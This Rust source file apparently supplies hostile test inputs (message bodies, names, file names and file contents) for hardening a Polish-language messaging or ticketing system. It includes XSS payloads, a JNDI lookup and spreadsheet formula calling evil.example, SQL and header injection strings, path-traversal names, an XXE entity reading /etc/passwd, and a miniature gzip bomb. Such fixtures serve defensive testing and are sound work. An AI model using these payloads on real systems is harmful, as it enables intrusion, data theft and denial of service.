//! What hostile people send: texts, names and files, bounded in number and size.

/// Bodies of messages, as HTML or not.
pub const BODIES: [&str; 16] = [
    "<script>alert(document.cookie)</script>Dzień dobry",
    "<img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "<a href=\"javascript:alert(1)\">kliknij</a> <a href='data:text/html;base64,PHNjcmlwdD4='>tu</a>",
    "<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Zaloguj</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "<<b>b</b>> <b <i>x</i> <script <b>y</b>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m czerwone \u{1b}[0m",
    "pierwsza\r\n\r\nContent-Type: text/html\r\n\r\n<script></script>\r\n--boundary\r\nContent-Disposition: form-data; name=\"to\"\r\n\r\nx",
    "\u{202e}txet desrever\u{202c} \u{2066}x\u{2069} zero\u{200b}width\u{feff}",
    "${jndi:ldap://evil.example/a} {{7*7}} {thread} {order} %s %n '; DROP TABLE tickets; --",
    "Jan K. (klient) · 23.11.2026 14:03 · #00000000\n\npodszyte pod inną wiadomość",
    "{\"level\":\"ERROR\",\"event\":\"panic\"}\n{\"_aws\":{\"CloudWatchMetrics\":[]}}",
    "<b><i><u><b><i><u><table><tr><td><ul><li><blockquote>głęboko",
    "\0 zero \u{1}\u{2}\u{8} \u{7f} \u{85} \u{2028} koniec",
];

/// Names of people, subjects, product titles.
pub const NAMES: [&str; 8] = [
    "Jan\r\nBcc: all@evil.example",
    "<script>alert(1)</script>",
    "\u{1b}[31mJan\u{1b}[0m\u{7}",
    "\u{202e}naJ",
    "Empik (operator) · 23.11.2026",
    "\"; filename=\"x.exe",
    "a\0b\tc\nd",
    "= HYPERLINK(\"//evil.example\")",
];

/// Names of files.
pub const FILES: [&str; 10] = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "faktura.pdf\r\nX-Evil: 1",
    "a\"; filename=\"evil.html",
    "\u{202e}fdp.exe",
    "\u{1b}[2Jzdjęcie.png",
    "CON",
    ".htaccess",
    "a\0.png",
    "<img src=x onerror=alert(1)>.svg",
];

/// A gzip bomb in miniature: deflate blocks that repeat, of which a reader would make many times more.
fn bomb() -> Vec<u8> {
    let mut bytes = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xed\xc1\x01\x0d\0\0\0\xc2\xa0\xf7\x4f\x6d".to_vec();
    bytes.extend(std::iter::repeat_n(0, 100_000));
    bytes
}

/// Contents of files: polyglots, bombs and things that are not what they are called.
pub fn contents() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("bomba.gz", bomb()),
        ("bomba.zip", [b"PK\x03\x04".as_slice(), &bomb()].concat()),
        ("poliglota.pdf", b"GIF89a/*%PDF-1.4 <script>alert(1)</script>*/=1;PK\x03\x04".to_vec()),
        ("strona.html", b"<html><script src=//evil.example></script></html>".to_vec()),
        ("obraz.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
        ("program.exe", b"MZ\x90\0\x03".to_vec()),
        ("encje.xml", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>".to_vec()),
        ("pusty.txt", Vec::new()),
    ]
}

/// Characters that act on a terminal, on what reads lines, or on the order of what is displayed.
pub fn acts(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}
